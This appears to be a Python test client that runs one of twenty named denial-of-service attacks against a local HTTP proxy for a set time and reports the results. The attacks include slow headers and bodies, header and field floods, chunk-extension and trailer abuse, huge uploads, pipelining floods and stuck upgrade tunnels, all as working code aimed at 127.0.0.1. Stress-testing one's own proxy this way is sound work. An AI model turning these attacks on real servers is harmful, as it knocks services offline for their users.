"""One attack on a proxy, for so many seconds. Usage: clients.py ATTACK PORT SECONDS

Prints what came of it: connections made, bytes sent and received, and the statuses that were seen.
"""

import collections
import json
import selectors
import socket
import sys
import time

GET = b"GET /%s HTTP/1.1\r\nhost: attack.test\r\n\r\n"
POST = b"POST /%s HTTP/1.1\r\nhost: attack.test\r\n"
CHUNKED = b"transfer-encoding: chunked\r\n\r\n"
UPGRADE = b"GET /tunnel HTTP/1.1\r\nhost: attack.test\r\nconnection: upgrade\r\nupgrade: soak\r\n\r\n"
MIB = 1 << 20


class Attack:
    """What each of `count` connections sends: `first`, then `again` for ever, at once or `drip` bytes at a time with
    `pause` between; and whether it reads. A connection that ends is made again."""

    def __init__(self, count, first=b"", again=b"", pause=0.0, drip=0, reads=True):
        self.count, self.first, self.again, self.pause, self.drip, self.reads = count, first, again, pause, drip, reads


def tiny_chunks():
    return b"1\r\nx\r\n" * (MIB // 6)


ATTACKS = {
    "slow heads": Attack(200, b"GET / HTTP/1.1\r\nhost: attack.test\r\nx-slow: ", b"a" * 1000, pause=0.1, drip=1),
    "slow bodies": Attack(200, POST % b"sink" + b"content-length: 1000000\r\n\r\n", b"a" * 1000, pause=0.1, drip=1),
    "slow readers": Attack(60, GET % b"big", reads=False),
    "head bombs": Attack(16, b"GET / HTTP/1.1\r\nhost: attack.test\r\nx-bomb: ", b"a" * 65536),
    "field bombs": Attack(16, b"GET / HTTP/1.1\r\nhost: attack.test\r\n", b"a:b\r\n" * 1000),
    "chunk extensions": Attack(16, POST % b"sink" + CHUNKED, (b"1;" + b"e=f;" * 500 + b"e\r\nx\r\n") * 100),
    "endless trailers": Attack(16, POST % b"sink" + CHUNKED + b"0\r\n", b"x-t: trailer\r\n" * 1000),
    "tiny chunks": Attack(16, POST % b"sink" + CHUNKED, tiny_chunks()),
    "big uploads": Attack(16, POST % b"sink" + b"content-length: 1000000000000\r\n\r\n", b"x" * MIB),
    "refused uploads": Attack(16, POST % b"nowhere" + b"content-length: 1000000000000\r\n\r\n", b"x" * MIB),
    "big downloads": Attack(8, (GET % b"big") * 100),
    "connections": Attack(300, b"", pause=0.02),
    "idle connections": Attack(200, GET % b"plain"),
    "pipelined refusals": Attack(16, b"", (GET % b"nowhere") * 1000),
    "pipelined requests": Attack(16, b"", (GET % b"plain") * 1000),
    "pipelines unread": Attack(16, b"", (GET % b"nowhere") * 1000, reads=False),
    "replay memory": Attack(150, b"PUT /stall HTTP/1.1\r\nhost: attack.test\r\ncontent-length: 262144\r\n\r\n" + b"x" * 262144),
    "floods of 103": Attack(16, GET % b"hints"),
    "slow answers": Attack(100, GET % b"drip"),
    "stuck tunnels": Attack(100, UPGRADE, b"x" * 65536, reads=False),
}


class Connection:
    def __init__(self, attack, port, at):
        self.attack, self.out, self.begun = attack, b"", False
        self.next = at
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.connect_ex(("127.0.0.1", port))

    def refill(self):
        if not self.out:
            self.out = memoryview(self.attack.again if self.begun else self.attack.first or self.attack.again)
            self.begun = True

    def wants_to_write(self, now):
        return bool(self.out or not self.begun or self.attack.again) and now >= self.next


class Client:
    def __init__(self, attack, port):
        self.attack, self.port = attack, port
        self.selector = selectors.DefaultSelector()
        self.counts = collections.Counter()

    def open(self, now):
        connection = Connection(self.attack, self.port, now)
        self.counts["connections"] += 1
        self.selector.register(connection.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)

    def end(self, connection, now):
        self.selector.unregister(connection.sock)
        connection.sock.close()
        self.open(now)

    def run(self, seconds):
        now = time.monotonic()
        until = now + seconds
        for _ in range(self.attack.count):
            self.open(now)
        while now < until:
            idle = True
            for key, events in self.selector.select(0.01):
                idle &= not self.serve(key.data, events, now)
            if idle:
                time.sleep(0.005)  # Every socket is writable and none has its turn.
            now = time.monotonic()
        return self.counts

    def serve(self, connection, events, now):
        """True when something moved."""
        try:
            moved = False
            if events & selectors.EVENT_READ and self.attack.reads:
                moved = self.read(connection)
            if events & selectors.EVENT_WRITE and connection.wants_to_write(now):
                moved |= self.write(connection, now)
            return moved
        except BlockingIOError:
            return False
        except OSError:
            self.counts["resets"] += 1
            self.end(connection, now)
            return True

    def read(self, connection):
        data = connection.sock.recv(MIB)
        if not data:
            self.counts["closes"] += 1
            raise OSError
        self.counts["received"] += len(data)
        if data.startswith(b"HTTP/1.1 "):
            self.counts[data[9:12].decode()] += 1
        return True

    def write(self, connection, now):
        connection.refill()
        if not connection.out:
            return False
        size = self.attack.drip if self.attack.drip and connection.begun else MIB
        if connection.attack.first and len(connection.out) == len(connection.attack.first):
            size = MIB  # What begins a connection goes at once.
        sent = connection.sock.send(connection.out[:size])
        connection.out = connection.out[sent:]
        self.counts["sent"] += sent
        connection.next = now + self.attack.pause
        return True


def main():
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    print(json.dumps(Client(ATTACKS[name], port).run(seconds)))


if __name__ == "__main__":
    main()
